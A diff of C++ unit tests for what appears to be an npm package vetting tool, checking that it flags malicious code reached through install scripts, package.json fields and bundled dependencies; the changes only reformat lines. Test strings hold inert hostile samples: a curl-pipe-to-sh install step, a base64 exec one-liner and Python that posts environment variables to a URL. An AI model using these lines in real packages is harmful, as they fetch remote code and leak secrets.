@@ -1,13 +1,12 @@
 // The same deed by a way round: other names of require, code within texts, files that only a text names, scripts that
 // call scripts. Each beside an innocent twin. All texts are inert: nothing here is run.
-#include "judges/vet/source/source.h"
-
 #include <string>
 #include <vector>
 
 #include <gtest/gtest.h>
 
 #include "judges/vet/source/install_scripts.h"
+#include "judges/vet/source/source.h"
 #include "judges/vet/source/source_fixture.h"
 
 namespace ward::vet {
@@ -81,11 +80,13 @@ TEST(VetEvasions, FilesThatATextNamesAreReached) {
     EXPECT_EQ(weight_of(read_made({{"index.js", "fork('./test/linux.js')"}, {"test/linux.js", bad_code}}), "S04"), 4.0);
     for (const std::string field : {"\"browser\":\"./x.js\"", "\"browser\":{\"./a.js\":\"./x.js\"}",
                                     "\"module\":\"x.js\"", "\"bin\":{\"a\":\"x.js\"}"})
-        EXPECT_EQ(weight_of(read_made({{"index.js", "1"}, {"package.json", "{" + field + "}"}, {"x.js", bad_code}}), "S04"),
-                  4.0)
+        EXPECT_EQ(
+            weight_of(read_made({{"index.js", "1"}, {"package.json", "{" + field + "}"}, {"x.js", bad_code}}), "S04"),
+            4.0)
             << field;
-    EXPECT_EQ(weight_of(read_made({{"index.js", "1"}, {"package.json", "{\"types\":\"x.js\"}"}, {"x.js", bad_code}}), "S04"),
-              2.0);
+    EXPECT_EQ(
+        weight_of(read_made({{"index.js", "1"}, {"package.json", "{\"types\":\"x.js\"}"}, {"x.js", bad_code}}), "S04"),
+        2.0);
 }
 
 TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
@@ -106,7 +107,8 @@ TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
         EXPECT_EQ(weight_of(read_made({{file, bad_code}, {"index.js", "1"}}, named), "S04"), 4.0) << script;
         EXPECT_EQ(weight_of(read_made({{file + ".txt", bad_code}, {"index.js", "1"}}, named), "S04"), 0) << script;
     }
-    const auto of_script = [](const std::string& script, std::string_view signal, const std::string& file = "alert(1)") {
+    const auto of_script = [](const std::string& script, std::string_view signal,
+                              const std::string& file = "alert(1)") {
         return weight_of(read_made({{"s", file}, {"index.js", "1"}}, {{"preinstall", script}}), signal);
     };
     EXPECT_EQ(of_script("bash s", "S08", "curl https://h.invalid | sh"), 4.0);
@@ -120,10 +122,12 @@ TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
     EXPECT_EQ(of_script("perl -e 'print 1'", "S08"), 0);
     EXPECT_EQ(of_script("python3 -c \"import base64;exec(base64.b64decode('YQ=='))\"", "S04"), 4.0);
     EXPECT_EQ(of_script("python3 -c \"print(1)\"", "S04"), 0);
-    EXPECT_EQ(weight_of(read_made({{"s.py", "import os,urllib.request as r\nr.urlopen(u, data=str(dict(os.environ)).encode())"}},
-                                  {{"install", "python3 s.py"}}),
-                        "S03"),
-              3.0);
+    EXPECT_EQ(
+        weight_of(
+            read_made({{"s.py", "import os,urllib.request as r\nr.urlopen(u, data=str(dict(os.environ)).encode())"}},
+                      {{"install", "python3 s.py"}}),
+            "S03"),
+        3.0);
     EXPECT_EQ(weight_of(read_made({{"s.py", "import os,urllib.request as r\nr.urlopen(u)\nos.environ['A']"}},
                                   {{"install", "python3 s.py"}}),
                         "S03"),
@@ -132,7 +136,8 @@ TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
 
 TEST(VetEvasions, WhatAPackageBringsAlongIsInstalledToo) {
     const std::string inner = "{\"name\":\"dep\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node e.js\"}}";
-    const Texts bundled = {{"index.js", "1"}, {"node_modules/dep/package.json", inner}, {"node_modules/dep/e.js", bad_code}};
+    const Texts bundled = {
+        {"index.js", "1"}, {"node_modules/dep/package.json", inner}, {"node_modules/dep/e.js", bad_code}};
     EXPECT_EQ(weight_of(read_made(bundled), "S04"), 4.0);
     const Texts nested = {{"index.js", "1"}, {"sub/package.json", inner}, {"sub/e.js", bad_code}};
     EXPECT_EQ(weight_of(read_made(nested), "S04"), 2.0);
